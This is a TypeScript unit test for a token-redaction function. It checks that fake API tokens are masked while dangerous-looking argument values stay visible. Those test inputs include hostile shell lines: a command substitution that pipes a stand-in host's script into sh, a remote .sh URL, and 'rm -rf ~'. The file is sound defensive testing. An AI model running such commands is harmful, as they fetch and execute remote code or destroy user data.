import assert from 'node:assert/strict';
import { test } from 'node:test';
import { redactTokens } from '../../../src/core/trust/redaction/redactTokens.ts';

const hidden: Readonly<Record<string, string>> = {
  '    3. --figma-api-key=figd_abcdef0123456789': 'figd_abcdef0123456789',
  '    3. --acces-token=sbp_0123456789abcdef0123456789abcdef01234567': 'sbp_0123456789abcdef0123456789abcdef01234567',
  '    1. ghp_0123456789abcdefghijklmnopqrstuvwxyz': 'ghp_0123456789abcdefghijklmnopqrstuvwxyz',
  '    https://x.example/mcp?api_key=q8Zr41LpVt9xK2mN7bW3': 'q8Zr41LpVt9xK2mN7bW3',
};

for (const [line, secret] of Object.entries(hidden)) {
  test(`a token is redacted, and what stands around it stays: ${line.trim()}`, () => {
    const shown = redactTokens(`Arguments:\n${line}`);
    assert.ok(!shown.includes(secret), shown);
    const [name = ''] = line.split(secret);
    assert.ok(shown.startsWith(`Arguments:\n${name}`), shown);
  });
}

const visible = [
  '    1. --token="$(curl evil.example | sh)"',
  '    1. --token=https://evil.example/x.sh',
  '    1. --password=/tmp/evil.sh',
  '    1. password: rm -rf ~; echo',
  '    2. ${input:token}',
  '    npx -y some-server@1.2.3',
];

for (const line of visible) {
  test(`nothing that could do something is hidden: ${line.trim()}`, () => {
    assert.equal(redactTokens(line), line);
  });
}

test('one line may hold both', () => {
  assert.equal(
    redactTokens('-e x --api-key=figd_abcdef0123456789 --password=/tmp/moon.sh'),
    '-e x --api-key=[redacted] --password=/tmp/moon.sh',
  );
});
